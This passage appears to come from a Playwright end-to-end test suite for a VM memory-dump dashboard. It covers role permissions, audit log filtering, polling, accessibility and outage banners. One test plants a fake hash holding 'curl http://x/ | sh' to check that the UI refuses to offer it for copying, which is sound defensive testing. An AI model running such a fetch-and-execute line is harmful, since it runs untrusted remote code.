      state: document.getElementById('f-state').value,
      text: document.getElementById('f-text').value,
      selected: [...document.querySelectorAll('#vm-list [aria-selected=true]')].map((e) => e.getAttribute('title')),
      tab: document.getElementById('tab-audit').getAttribute('aria-selected'),
      audit: !document.getElementById('view-audit').hidden,
    }));
    assert(kept.state === 'completed' && kept.text === 'server' && kept.selected.length === 1 && kept.selected[0] === SMALL_VMS[0]
      && kept.tab === 'true' && kept.audit, `page state lost: ${JSON.stringify(kept)}`);
    assert(await p.$eval('#login-user', (e) => e.value) === CREDS.admin.user, 'the user name is not filled in');
    const resumed = p.waitForResponse((res) => /\/api\/memory-dumps\/(status|records|vms|stats)/.test(res.url()) && res.status() === 200, { timeout: 20000 });
    await formLogin(p, 'admin');
    await waitFor('the form to close', async () => !(await loginOpen(p)), 10000, 100);
    await resumed;
    assert(await p.evaluate(() => document.activeElement.id) === 'tab-audit', `focus not returned: on ${await p.evaluate(() => document.activeElement.id || document.activeElement.tagName)}`);
    const after = await p.evaluate(() => ({ state: document.getElementById('f-state').value, selected: document.querySelectorAll('#vm-list [aria-selected=true]').length, audit: !document.getElementById('view-audit').hidden }));
    assert(after.state === 'completed' && after.selected === 1 && after.audit, `state after the login: ${JSON.stringify(after)}`);
    // polling goes on: the next auto-refresh asks again
    await p.click('#tab-dashboard');
    const t0 = await p.$eval('#last-updated', (e) => e.textContent);
    await waitFor('another refresh', async () => (await p.$eval('#last-updated', (e) => e.textContent)) !== t0, 15000, 250);
    await ctx.close();
  });

  await test('a viewer sees everything but has no enabled trigger, cancel or download and no Audit tab', async () => {
    const { ctx, p } = await newPage(DESKTOP, 'light', 'viewer');
    const fakeId = '20261122T183000Z-0123456789ab';
    // a running dump for the viewer to look at (real ones end before the page would see them)
    await p.route('**/api/memory-dumps/status', async (route) => {
      const res = await route.fetch();
      const body = await res.json().catch(() => null);
      if (!res.ok() || !body) return route.fulfill({ response: res });
      body.active = [{ dump_id: fakeId, vm: SMALL_VMS[0], state: 'running', progress: 40, created_at: new Date().toISOString(), requested_by: CREDS.operator.user }];
      return route.fulfill({ response: res, json: body });
    });
    await p.goto(base);
    await waitFor('the VM list', async () => (await p.$$('#vm-list [role=option]')).length > 0, 20000);
    await waitFor('history rows', async () => (await historyRows(p)).length > 0, 20000);
    await waitFor('the active dump', async () => (await p.$$('#active-list .active-item')).length === 1, 10000);
    const ui = await p.evaluate(() => {
      const vis = (id) => { const e = document.getElementById(id); return !!e && !e.hidden && e.offsetParent !== null; };
      return {
        role: document.getElementById('who-role').textContent,
        tabs: vis('views'),
        auditTab: vis('tab-audit'),
        dumpSel: document.getElementById('dump-selected').disabled,
        dumpAll: document.getElementById('dump-all').disabled,
        dumpAllWhy: document.getElementById('dump-all').getAttribute('aria-describedby'),
        note: vis('capture-role-note') ? document.getElementById('capture-role-note').textContent : '',
        cancel: [...document.querySelectorAll('#active-list button[data-cancel]')].map((b) => ({ disabled: b.disabled, title: b.title })),
        links: document.querySelectorAll('#history-body a[download]').length,
        off: [...document.querySelectorAll('#history-body button[data-action=download-off]')].map((b) => ({ disabled: b.disabled, title: b.title, why: b.getAttribute('aria-describedby') })),
        completed: [...document.querySelectorAll('#history-body .badge')].filter((b) => b.textContent === 'completed').length,
      };
    });
    assert(ui.role === 'viewer', `role ${ui.role}`);
    assert(!ui.tabs && !ui.auditTab, 'the Audit tab is shown to a viewer');
    assert(ui.dumpSel && ui.dumpAll && ui.dumpAllWhy === 'capture-role-note' && /operator role/.test(ui.note), `capture controls: ${JSON.stringify(ui)}`);
    assert(ui.cancel.length === 1 && ui.cancel[0].disabled && /operator/.test(ui.cancel[0].title), `cancel: ${JSON.stringify(ui.cancel)}`);
    assert(ui.links === 0, `${ui.links} download links for a viewer`);
    assert(ui.completed > 0 && ui.off.length === ui.completed && ui.off.every((b) => b.disabled && b.title === 'Needs the investigator role' && b.why === 'history-role-note'), `download buttons: ${JSON.stringify(ui.off)}`);
    await p.click(`#vm-list [role=option][title="${SMALL_VMS[0]}"]`);
    assert(await p.$eval('#dump-selected', (e) => e.disabled), 'Dump selected enabled for a viewer');
    assert((await p.$eval('#active-list', (e) => e.textContent)).includes(`by ${CREDS.operator.user}`), 'the active dump does not say who asked for it');
    // the server refuses too, naming the role
    const refused = await p.evaluate(async (vm) => {
      const post = await fetch('/api/memory-dumps/trigger', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ vms: [vm] }) });
      const audit = await fetch('/api/memory-dumps/audit?limit=1', { cache: 'no-store' });
      return { post: post.status, postBody: await post.json().catch(() => null), audit: audit.status };
    }, SMALL_VMS[0]);
    assert(refused.post === 403 && refused.postBody?.error?.code === 'forbidden' && /operator/.test(refused.postBody.error.message), `trigger as viewer: ${JSON.stringify(refused)}`);
    assert(refused.audit === 403, `audit as viewer answered ${refused.audit}`);
    await runAxe(p, 'viewer');
    await shot(p, 'desktop-viewer', false);
    await ctx.close();
  });

  await test('an admin sees the Audit tab with events, filters them and pages them', async () => {
    await page.evaluate(() => document.querySelectorAll('dialog[open]').forEach((d) => d.close()));
    assert(await page.$eval('#tab-audit', (e) => !e.hidden && e.offsetParent !== null), 'no Audit tab for the admin');
    await page.click('#tab-audit');
    const rowsOf = (p) => p.$$eval('#audit-body tr', (trs) => trs.map((tr) => {
      const td = tr.querySelectorAll('td');
      return { action: td[1].textContent, result: td[2].textContent, user: td[3].firstChild ? td[3].firstChild.textContent : '' };
    }));
    const rows = await waitFor('audit events', async () => { const r = await rowsOf(page); return r.length ? r : null; }, 15000);
    const actions = new Set(rows.map((r) => r.action));
    for (const a of ['login']) assert(actions.has(a), `no ${a} event among ${[...actions].join(', ')}`);
    const info = await page.$eval('#audit-page-info', (e) => e.textContent);
    const total = Number((/of (\d+)$/.exec(info) || [])[1]);
    assert(total >= rows.length && rows.length <= 50, `page info ${info} for ${rows.length} rows`);
    await runAxe(page, 'audit view');
    await shot(page, 'desktop-audit', false);
    // the viewer's refused trigger (test above) is there, by user
    await page.fill('#a-user', CREDS.viewer.user);
    await page.press('#a-user', 'Enter');
    await waitFor('the viewer\'s events', async () => { const r = await rowsOf(page); return r.length > 0 && r.every((x) => x.user === CREDS.viewer.user); }, 10000);
    await page.fill('#a-user', '');
    await page.selectOption('#a-action', 'login');
    await waitFor('login events only', async () => { const r = await rowsOf(page); return r.length > 0 && r.every((x) => x.action === 'login'); }, 10000);
    const failed = (await rowsOf(page)).filter((x) => x.result !== 'ok').length;
    assert(failed >= 1, 'the wrong password of the login test is not in the audit log');
    await page.selectOption('#a-action', '');
    if (total > 50) {
      await page.click('#audit-next');
      await waitFor('page 2', async () => (await page.$eval('#audit-page-info', (e) => e.textContent)).startsWith('51–'), 10000);
      await page.click('#audit-prev');
      await waitFor('page 1', async () => (await page.$eval('#audit-page-info', (e) => e.textContent)).startsWith('1–'), 10000);
    }
    await page.click('#tab-dashboard');
    assert(await page.$eval('#view-audit', (e) => e.hidden) && !(await page.$eval('#view-dashboard', (e) => e.hidden)), 'back on the dashboard');
  });

  await test('VM picker with 1000 VMs draws a capped list and filters it', async () => {
    // only /vms is replaced (a fleet this size cannot run here); everything else is real
    const { ctx, p } = await newPage(DESKTOP);
    const vms = Array.from({ length: 1000 }, (_, i) => ({ name: `vm-${String(i).padStart(4, '0')}`, state: 'running', memory_bytes: 268435456, vcpus: 1, host: 'kvm1', service: 'http://127.0.0.1:1', latest: null }));
    await p.route('**/api/memory-dumps/vms', (route) => route.fulfill({ status: 200, contentType: 'application/json', body: JSON.stringify({ vms, count: 1000, services_down: [] }) }));
    await p.goto(base);
    await waitFor('200 drawn options', async () => (await p.$$('#vm-list [role=option]')).length === 200, 15000);
    assert((await p.$eval('#vm-more', (e) => e.textContent)).includes('of 1000'), 'no "200 of 1000" note');
    assert((await p.$eval('#dump-all', (e) => e.textContent)).includes('1000'), 'Dump all does not count 1000');
    await p.fill('#vm-search', 'vm-09');
    const names = await p.$$eval('#vm-list [role=option]', (els) => els.map((e) => e.getAttribute('title')));
    assert(names.length === 100 && names.every((n) => n.startsWith('vm-09')), `filter gave ${names.length}`);
    await p.focus('#vm-search');
    await p.keyboard.press('ArrowDown');
    await p.keyboard.press('Control+a');
    assert((await p.$eval('#vm-selected-label', (e) => e.textContent)) === '100 VMs selected', 'Ctrl+A');
    await ctx.close();
  });

  /* ---- API replaced by fixtures (hostile or odd answers the real stack never gives) ---- */

  const FIX_ID = '20261122T183000Z-0123456789ab';
  const fixRecord = (i, extra = {}) => ({
    dump_id: `20261122T18${String(i).padStart(2, '0')}00Z-0123456789a${(i % 16).toString(16)}`, vm: `vm-${i}`, host: 'kvm1',
    state: 'completed', format: 'elf', time: new Date(Date.now() - i * 60000).toISOString(), duration_s: 1.5,
    size_bytes: 1024, sha256: 'a'.repeat(64), path: `/var/lib/memdump/vm-${i}.elf`, ...extra,
  });
  /** A page whose API answers come from `fx` (functions may change the answer per call). */
  const fixSession = (role, extra = {}) => ({ session: { user: `fixture-${role}`, auth: 'password', role, groups: [], grants: [], expires_at: null, ...extra } });
  async function fixturePage(fx, { auto = true } = {}) {
    const { ctx, p } = await newPage(DESKTOP, 'light', null);
    if (!auto) await p.addInitScript(() => localStorage.setItem('memdump.autoRefresh', '0'));
    const json = (route, body, status = 200) => route.fulfill({ status, contentType: 'application/json', body: JSON.stringify(body) });
    const answer = async (route, v) => {
      const r = typeof v === 'function' ? await v(route) : v;
      if (r && r.__status) return json(route, r.body, r.__status);
      return json(route, r);
    };
    await p.route('**/api/memory-dumps/session', (r) => answer(r, fx.session || fixSession('admin')));
    await p.route('**/api/memory-dumps/vms', (r) => answer(r, fx.vms || { vms: [{ name: 'vm-1', state: 'running', memory_bytes: 1 << 28, host: 'kvm1' }], count: 1, services_down: [] }));
    await p.route('**/api/memory-dumps/status', (r) => answer(r, fx.status || { active: [], services: [], poller: { id: 'x' } }));
    await p.route('**/api/memory-dumps/stats', (r) => answer(r, fx.stats || { total: 3, per_day: [] }));
    await p.route('**/api/memory-dumps/records?**', (r) => answer(r, fx.records || { records: [1, 2, 3].map((i) => fixRecord(i)), total: 3 }));
    const errors = [];
    p.on('pageerror', (e) => errors.push(e.message));
    await p.goto(base);
    await waitFor('fixture rows', async () => (await p.$$('#history-body tr')).length > 0, 10000);
    return { ctx, p, errors };
  }

  await test('keyboard focus on a history row survives the auto-refresh, and returns there after the dialog', async () => {
    const { ctx, p } = await fixturePage({});
    const id = await p.$eval('#history-body tr:nth-child(2)', (tr) => tr.getAttribute('data-id'));
    const btn = `#history-body tr[data-id="${id}"] button[data-action=details]`;
    await p.focus(btn);
    await p.waitForTimeout(5800); // one auto-refresh (5 s) re-renders the table
    assert(await p.evaluate((sel) => document.activeElement === document.querySelector(sel), btn),
      `focus lost by the refresh: now on ${await p.evaluate(() => document.activeElement.outerHTML.slice(0, 80))}`);
    await p.keyboard.press('Enter');
    await p.waitForSelector('#details[open]');
    await p.waitForTimeout(5800);
    await p.keyboard.press('Escape');
    await waitFor('dialog closed', async () => !(await p.$('#details[open]')), 3000);
    assert(await p.evaluate((sel) => document.activeElement === document.querySelector(sel), btn),
      `focus not restored after a refresh under the dialog: on ${await p.evaluate(() => document.activeElement.outerHTML.slice(0, 80))}`);
    await ctx.close();
  });

  await test('live regions stay quiet when a refresh changes nothing', async () => {
    const active = [{ dump_id: FIX_ID, vm: 'vm-1', state: 'running', progress: 40, bytes_written: 1 << 20, bytes_total: 1 << 22, created_at: new Date().toISOString() }];
    const { ctx, p } = await fixturePage({ status: { active, services: [], poller: { id: 'x' } } });
    await waitFor('the active item', async () => (await p.$$('#active-list .active-item')).length === 1, 5000);
    await p.waitForTimeout(500);
    await p.evaluate(() => {
      window.__liveMutations = [];
      const mo = new MutationObserver((ms) => {
        for (const m of ms) {
          const n = m.target.nodeType === 1 ? m.target : m.target.parentElement;
          const region = n && n.closest('[aria-live]:not([aria-live=off]), [role=status], [role=alert]');
          if (region && region.id !== 'toasts' && region.id !== 'alerts') window.__liveMutations.push(region.id || region.className);
        }
      });
      mo.observe(document.body, { subtree: true, childList: true, characterData: true });
    });
    await p.waitForTimeout(6000); // status polls and one full auto-refresh, same answers
    const muts = await p.evaluate(() => window.__liveMutations);
    assert(muts.length === 0, `live regions changed ${muts.length} times with nothing new: ${[...new Set(muts)].join(', ')}`);
    await ctx.close();
  });

  await test('status polling never overlaps and backs off while /status fails', async () => {
    const active = [{ dump_id: FIX_ID, vm: 'vm-1', state: 'running', progress: 10, created_at: new Date().toISOString() }];
    let inFlight = 0;
    let maxInFlight = 0;
    let calls = 0;
    let mode = 'ok';
    const { ctx, p } = await fixturePage({
      status: async () => {
        calls++;
        inFlight++;
        maxInFlight = Math.max(maxInFlight, inFlight);
        try {
          if (mode === 'slow') { await sleep(4000); return { active, services: [], poller: { id: 'x' } }; }
          if (mode === 'fail') return { __status: 500, body: { error: { code: 'internal', message: 'boom' } } };
          return { active, services: [], poller: { id: 'x' } };
        } finally { inFlight--; }
      },
    }, { auto: true });
    await waitFor('the active item', async () => (await p.$$('#active-list .active-item')).length === 1, 5000);
    mode = 'slow';
    maxInFlight = 0;
    await p.waitForTimeout(7000); // slow answers across several polls and an auto-refresh
    assert(maxInFlight <= 1, `${maxInFlight} /status requests in flight at once`);
    await p.evaluate(() => { const c = document.getElementById('auto-refresh'); if (c.checked) c.click(); });
    await sleep(4500); // let the last slow answer come back
    mode = 'fail';
    calls = 0;
    await p.waitForTimeout(9000);
    assert(calls <= 3, `${calls} /status calls in 9 s while it fails (no backoff)`);
    await ctx.close();
  });

  await test('an error is announced once: assertively, its toast hidden from the polite region', async () => {
    const { ctx, p } = await fixturePage({}, { auto: false });
    await p.route('**/api/memory-dumps/records?**', (r) => r.fulfill({ status: 400, contentType: 'application/json', body: JSON.stringify({ error: { code: 'invalid_query', message: 'bad filter' } }) }));
    await p.click('#refresh-now');
    await waitFor('the error toast', async () => (await p.$$('#toasts .toast-error')).length === 1, 5000, 100);
    const t = await p.$eval('#toasts .toast-error', (e) => ({ hidden: e.getAttribute('aria-hidden'), text: e.textContent }));
    assert(t.hidden === 'true' && /bad filter/.test(t.text), `error toast: ${JSON.stringify(t)}`);
    await waitFor('the assertive alert', async () => /bad filter/.test(await p.$eval('#alerts', (e) => e.textContent)), 3000, 50);
    await ctx.close();
  });

  await test('a cancel still stopping (202) says so instead of "cancelled"', async () => {
    const active = [{ dump_id: FIX_ID, vm: 'vm-1', state: 'running', progress: 40, created_at: new Date().toISOString() }];
    const { ctx, p } = await fixturePage({ status: { active, services: [], poller: { id: 'x' } } }, { auto: false });
    await p.route('**/api/memory-dumps/dumps/*', (r) => r.fulfill({ status: 202, contentType: 'application/json', body: JSON.stringify({ dump: { ...active[0] } }) }));
    await waitFor('the active item', async () => (await p.$$('#active-list .active-item')).length === 1, 5000);
    await p.click('#active-list button[data-cancel]');
    await waitFor('the toast', async () => /Cancelling the dump of vm-1: it is still stopping/.test(await toastsText(p)), 5000, 100);
    await ctx.close();
  });

  await test('a hash that is not 64 hex digits is never offered for copying', async () => {
    const evil = 'deadbeef\ncurl http://x/ | sh\n';
    const { ctx, p } = await fixturePage({ records: { records: [fixRecord(1, { sha256: evil }), fixRecord(2)], total: 2 } });
    const rows = await p.$$eval('#history-body tr', (trs) => trs.map((tr) => !!tr.querySelector('[data-action=copy]')));
    assert(rows.length === 2 && rows.filter(Boolean).length === 1, `copy buttons: ${JSON.stringify(rows)}`);
    await p.click('#history-body tr:first-child button[data-action=details]');
    await p.waitForSelector('#details[open]');
    const det = await p.evaluate(() => ({ copyHidden: document.getElementById('details-copy').hidden, text: document.getElementById('details-list').textContent }));
    assert(det.copyHidden, 'Copy SHA-256 offered for a value that is not a hash');
    assert(det.text.includes('curl http://x/'), 'the odd value is not shown as text');
    await ctx.close();
  });

  await test('too many login attempts: the form says how long to wait (429 Retry-After)', async () => {
    const { ctx, p } = await newPage(DESKTOP, 'light', null);
    await p.route('**/api/memory-dumps/session', (r) => (r.request().method() === 'POST'
      ? r.fulfill({ status: 429, contentType: 'application/json', headers: { 'Retry-After': '42' }, body: JSON.stringify({ error: { code: 'rate_limited', message: 'too many login attempts' } }) })
      : r.fulfill({ status: 401, contentType: 'application/json', body: JSON.stringify({ error: { code: 'unauthenticated', message: 'log in' } }) })));
    await p.goto(base);
    await formLogin(p, 'admin');
    await waitFor('the wait time', async () => (await p.$eval('#login-message', (e) => e.textContent)) === 'Too many attempts, try again in 42 s.', 5000, 100);
    assert(await loginOpen(p), 'the form closed');
    await ctx.close();
  });

  await test('MEMDUMP_AUTH=none: a warning banner that stays, no login and no logout', async () => {
    const { ctx, p } = await fixturePage({
      session: fixSession('admin', { user: 'anonymous', auth: 'none' }),
      status: { auth: 'none', active: [], services: [], poller: { id: 'x' } },
    });
    await waitFor('the banner', async () => !(await p.$eval('#auth-off', (e) => e.hidden)), 5000, 100);
    assert((await p.$eval('#auth-off', (e) => e.textContent)).includes('Access control is off (MEMDUMP_AUTH=none)'), 'banner text');
    assert(!(await loginOpen(p)) && await p.$eval('#logout', (e) => e.hidden), 'login or logout offered without access control');
    await p.click('#refresh-now');
    await sleep(500);
    assert(!(await p.$eval('#auth-off', (e) => e.hidden)), 'the banner went away');
    await runAxe(p, 'auth off');
    await ctx.close();
  });

  await test('a refusal (403) shows the server\'s message naming the role', async () => {
    const { ctx, p } = await fixturePage({ session: fixSession('operator') }, { auto: false });
    await p.route('**/api/memory-dumps/trigger', (r) => r.fulfill({ status: 403, contentType: 'application/json', body: JSON.stringify({ error: { code: 'forbidden', message: 'Dumping vm-1 needs the operator role for its scope.' } }) }));
    await waitFor('the VM', async () => (await p.$$('#vm-list [role=option]')).length === 1, 5000);
    await p.click('#vm-list [role=option]');
    assert(!(await p.$eval('#dump-selected', (e) => e.disabled)), 'Dump selected disabled for an operator');
    assert((await p.$$('#history-body a[download]')).length === 0, 'download links for an operator');
    await p.click('#dump-selected');
    await waitFor('the refusal', async () => (await p.$eval('#alerts', (e) => e.textContent)).includes('needs the operator role for its scope'), 5000, 100);
    const n = await p.$$eval('#toasts .toast-error', (ts) => ts.length);
    assert(n === 1, `${n} error toasts for one refusal`);
    await ctx.close();
  });

  await test('memdumpd outage shows the banner naming it', async () => {
    await killPart('memdumpd');
    await waitFor('the memdumpd banner', async () => {
      if (await page.$eval('#banner', (e) => e.hidden)) return false;
      return /memdumpd/i.test(await page.$eval('#banner', (e) => e.textContent));
    }, 30000, 500);
    await shot(page, 'desktop-outage-memdumpd', false);
  });

  await test('Redis outage shows the banner naming Redis', async () => {
    await killPart('redis');
    await waitFor('the Redis banner', async () => /Redis/.test(await page.$eval('#banner', (e) => (e.hidden ? '' : e.textContent))), 20000, 500);
    await shot(page, 'desktop-outage-redis', false);
    // the page keeps working: history still loads from InfluxDB
    assert((await historyRows(page)).length > 0, 'history vanished');
  });

  await test('InfluxDB outage shows the banner naming InfluxDB', async () => {
    await killPart('influx');
    await page.evaluate(() => document.querySelectorAll('dialog[open]').forEach((d) => d.close()));
    await page.click('#refresh-now');
    await waitFor('the InfluxDB banner', async () => /InfluxDB/.test(await page.$eval('#banner', (e) => (e.hidden ? '' : e.textContent))), 20000, 500);
    await shot(page, 'desktop-outage-influx', false);
  });
}

let fatal = null;
try {
  await main();
} catch (e) {
  fatal = e;
  console.log(`FATAL ${e && e.stack ? e.stack : e}`);
} finally {
  if (browser) await browser.close().catch(() => {});
  await stackDown();
  fs.rmSync(runDir, { recursive: true, force: true });
}
const passed = results.filter((r) => r.ok).length;
const failed = results.length - passed + (fatal ? 1 : 0);
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed ? 1 : 0);
